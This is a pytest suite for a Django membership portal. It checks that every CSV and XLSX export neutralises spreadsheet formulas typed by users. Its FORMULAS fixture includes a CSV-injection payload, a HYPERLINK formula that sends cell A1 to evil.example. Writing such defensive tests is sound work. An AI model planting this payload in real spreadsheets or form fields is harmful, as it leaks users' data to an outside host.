"""Every CSV and XLSX the portal writes neutralises formulas (common.spreadsheet.neutralise).

The writers: the impact export (summary and ?detail=1), the member export as CSV and XLSX (and its
contacts and membership-years files),
from `export_members`, the admin's export page and its two list actions.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from das.tests.factories import StrategicAreaFactory
from members.models import Organisation
from members.tests.factories import OrganisationFactory, UserFactory
from projects.models import Project
from projects.tests.factories import ProjectFactory, granted_decision

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+1", "@SUM(A1:A9)", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")']


def _csv_cells(content: bytes) -> list[str]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, as French Excel opens it"
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    return [cell for row in rows for cell in row]


def _xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_neutralised(cells: list) -> None:
    for formula in FORMULAS:
        assert "'" + formula in cells, f"{formula!r} is not in the file as text"
    assert not any(isinstance(cell, str) and cell and cell[0] in "=+-@" for cell in cells)


@pytest.fixture
def formulas_typed_by_users(db):
    """Applicants type acronyms and titles; members their organisation's name and description."""
    area = StrategicAreaFactory(code="imaging", name_fr=FORMULAS[0], name_en=FORMULAS[0])
    for formula in FORMULAS:
        organisation = OrganisationFactory(name=formula, description=formula, city=formula, siren="")
        project = ProjectFactory(
            status=Project.Status.FUNDED,
            acronym=formula[:30],
            title=formula,
            lead_organisation=organisation,
            primary_area=area,
            total_investment=Decimal("1000"),
        )
        granted_decision(project, granted="500", aid="500", scope="national", year=2024)


@pytest.fixture
def staff_client(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def test_the_detailed_impact_csv_neutralises_acronyms_titles_and_names(staff_client, formulas_typed_by_users):
    response = staff_client.get("/impact/export.csv?detail=1")

    cells = _csv_cells(response.content)
    assert response.status_code == 200
    # Acronyms are cut at 30 characters; titles and organisation names are whole.
    _assert_neutralised(cells)


def test_the_impact_summary_csv_neutralises_the_area_names(client, formulas_typed_by_users):
    response = client.get("/impact/export.csv")

    cells = _csv_cells(response.content)
    assert "'=1+1" in cells
    assert not any(cell and cell[0] in "=+-@" for cell in cells)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_export_members_command_neutralises(formulas_typed_by_users, tmp_path, file_format):
    path = tmp_path / f"members.{file_format}"

    call_command("export_members", str(path))

    content = path.read_bytes()
    _assert_neutralised(_csv_cells(content) if file_format == "csv" else _xlsx_cells(content))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_export_page_neutralises(staff_client, formulas_typed_by_users, file_format):
    response = staff_client.get(f"/admin/members/organisation/export/?file_format={file_format}")

    content = b"".join(response) if response.streaming else response.content
    assert response.status_code == 200
    _assert_neutralised(_csv_cells(content) if file_format == "csv" else _xlsx_cells(content))


@pytest.mark.parametrize(("action", "file_format"), [("export_selected_csv", "csv"), ("export_selected_xlsx", "xlsx")])
def test_the_admin_export_actions_neutralise(staff_client, formulas_typed_by_users, action, file_format):
    selected = [str(pk) for pk in Organisation.objects.values_list("pk", flat=True)]

    response = staff_client.post("/admin/members/organisation/", {"action": action, "_selected_action": selected})

    assert response.status_code == 200
    # The exports are streamed (issue 16): read the whole body.
    body = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_neutralised(_csv_cells(body) if file_format == "csv" else _xlsx_cells(body))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_contacts_and_years_files_neutralise_names_positions_and_reasons(db, file_format):
    import datetime

    from members.imports import members_export
    from members.models import MembershipYear
    from members.tests.factories import MembershipYearFactory, PersonFactory

    organisation = OrganisationFactory(name="Alpha Bio", siren="732829320")
    for formula in FORMULAS:
        PersonFactory(organisation=organisation, first_name=formula, last_name=formula, position=formula)
    for year, formula in enumerate(FORMULAS, start=2020):
        MembershipYearFactory(
            organisation=organisation,
            year=year,
            status=MembershipYear.Status.RESIGNED,
            paid_on=None,
            resigned_on=datetime.date(year, 6, 1),
            resignation_reason=formula,
        )

    for kind in ("contacts", "years"):
        content = members_export(queryset=Organisation.objects.all(), file_format=file_format, kind=kind)
        _assert_neutralised(_csv_cells(content) if file_format == "csv" else _xlsx_cells(content))
